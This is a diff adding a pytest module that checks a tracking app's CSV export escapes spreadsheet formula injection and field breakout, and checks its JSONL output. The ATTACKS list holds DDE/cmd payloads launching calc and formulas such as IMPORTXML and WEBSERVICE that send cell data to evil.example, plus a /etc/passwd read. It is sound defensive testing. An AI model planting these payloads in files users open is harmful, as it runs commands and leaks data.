@@ -1,0 +1,176 @@
+"""Hits as CSV that a spreadsheet may open, and as lines of JSON."""
+
+import csv
+import io
+import unicodedata
+from datetime import UTC, datetime
+from typing import Any
+from uuid import UUID
+
+import orjson
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from tracker.hit import identity_of
+from tracker.reading.export_lines import FIELDS, FORMATS, fields_of, lines_of, safe_cell
+
+ATTACKS = (
+    "=1+1",
+    "=cmd|'/C calc'!A0",
+    "=cmd|' /C notepad'!'A1'",
+    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+    '=IMPORTXML(CONCAT("https://evil.example/?v=",CONCATENATE(A2:E2)),"//a/a10")',
+    '=IMPORTFEED("https://evil.example")',
+    '=IMPORTHTML("https://evil.example","table",1)',
+    '=IMPORTRANGE("https://evil.example","A1:B2")',
+    '=IMPORTDATA("https://evil.example")',
+    '=IMAGE("https://evil.example/"&B2)',
+    '=WEBSERVICE("https://evil.example/"&A1)',
+    '=FILTERXML(WEBSERVICE("https://evil.example"),"//x")',
+    "='file:///etc/passwd'#$passwd.A1",
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
+    "=SUM(1+9)*cmd|' /C calc'!A0",
+    "=AND(1=1)",
+    "=%0A1+1",
+    "==1+1",
+    "= 1+1",
+    "+1+1",
+    "+cmd|'/C calc'!A0",
+    "++1",
+    "+44 20 7946 0000",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "--1",
+    "-",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "@A1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\r\n=cmd|'/C calc'!A0",
+    "\t\t@SUM(1)",
+    "\t",
+    " =1+1",
+    "   +1",
+    "\u00a0=1+1",
+    "\u3000=1+1",
+    "\u2003-1",
+    "\u200b=1+1",
+    "\u200e=1+1",
+    "\u202e=1+1",
+    "\u2060=1+1",
+    "\ufeff=1+1",
+    "\u00ad=1+1",
+    "\ufeff\u200b =1+1",
+    "\x01=1+1",
+    "\x0b=1+1",
+    "\x0c@A1",
+    "\x1b=1+1",
+    "\x7f=1+1",
+    "\x85=1+1",
+    "\u2028=1+1",
+    "\u2029=1+1",
+    "\uff1d1+1",
+    "\uff0b1+1",
+    "\uff0d1+1",
+    "\uff20A1",
+    "\ufe661+1",
+    "\ufe621+1",
+    "\ufe631+1",
+    "\ufe6bA1",
+    "\u22121+1",
+    "\u207a1",
+    "\u208b1",
+)
+"""What has been used or recommended against spreadsheets that open other people's CSV, and its look-alikes."""
+QUOTES = ('";=1+1;"', '","=1+1', '"\r\n=1+1', '"=1+1"', 'x","=1+1","y', "a,b", 'a"b', "a\r\nb", "a\nb", "a\rb")
+"""What tries to leave its field."""
+HARMLESS = (
+    "https://shop.example/?a=1",
+    "/cart",
+    '{"a": "=1"}',
+    "Mozilla/5.0",
+    "1920x1080",
+    "2001:db8::1",
+    "日本語",
+    "",
+)
+
+
+def row(**columns: Any) -> dict[str, Any]:
+    values = dict.fromkeys(FIELDS[2:])
+    return {
+        **values,
+        "id": 5,
+        "created_at": datetime(2026, 1, 2, 3, 4, 5, 678, tzinfo=UTC),
+        "app_id": "shop",
+        **columns,
+    }
+
+
+def as_csv(*rows: dict[str, Any]) -> list[dict[str, str]]:
+    beginning, lines = lines_of("csv", FIELDS)
+    text = (beginning + lines(rows)).decode()
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_a_formula_is_a_text_in_every_field(attack: str) -> None:
+    names = [name for name in FIELDS[2:] if not name.endswith(("_data", "_params"))]
+    [read] = as_csv(row(**dict.fromkeys(names, attack)))
+    assert {read[name] for name in names} == {"'" + attack}
+
+
+@pytest.mark.parametrize("text", QUOTES)
+def test_nothing_leaves_its_field(text: str) -> None:
+    before, read, after = as_csv(row(url="/1"), row(url=text, referrer="/2"), row(url="/3"))
+    assert (read["url"], read["referrer"]) == (safe_cell(text), "/2")
+    assert (before["url"], after["url"]) == ("/1", "/3")
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_what_is_harmless_stays_as_it_is(text: str) -> None:
+    assert safe_cell(text) == text
+
+
+@given(st.text(alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\x00")))
+def test_every_text_comes_back_and_none_begins_like_a_formula(text: str) -> None:
+    [read] = as_csv(row(user_agent=text))
+    cell = read["user_agent"]
+    assert (cell.removeprefix("'")) == text
+    visible = [letter for letter in cell if not letter.isspace() and unicodedata.category(letter)[0] not in "CZ"]
+    assert not visible or unicodedata.normalize("NFKC", visible[0])[0] not in "=+-@"
+
+
+def test_a_line_has_the_columns_the_tracking_id_and_times_in_utc() -> None:
+    custom_params, event_data = '{"price": 12.50, "big": 9007199254740991}', '{"a": [1, null]}'
+    given_row = row(url="/ü", custom_params=custom_params, event_data=event_data)
+    [read] = as_csv(given_row)
+    assert tuple(read) == FIELDS
+    assert read["created_at"] == "2026-01-02T03:04:05.000678Z"
+    assert (read["custom_params"], read["event_data"], read["url"]) == (custom_params, event_data, "/ü")
+    assert read["session_id"] == ""
+    _, lines = lines_of("jsonl", FIELDS)
+    text = lines([given_row, row()])
+    assert text.count(b"\n") == 2
+    line = orjson.loads(text.split(b"\n")[0])
+    assert tuple(line) == FIELDS
+    assert line["custom_params"] == {"price": 12.5, "big": 9007199254740991}
+    assert line["session_id"] is None
+    assert b'"price": 12.50' in text, "numbers stay as PostgreSQL has them"
+    assert identity_of(UUID(line["tracking_id"])) == (5, given_row["created_at"])
+
+
+@pytest.mark.parametrize("format_", FORMATS)
+def test_custom_parameters_may_be_left_out(format_: Any) -> None:
+    fields = fields_of(with_params=False)
+    beginning, lines = lines_of(format_, fields)
+    assert b"custom_params" not in beginning + lines([row(custom_params=None)])
+
+
+def test_a_row_that_was_inserted_by_hand_has_no_tracking_id() -> None:
+    [read] = as_csv(row(id=-1))
+    assert read["tracking_id"] == ""
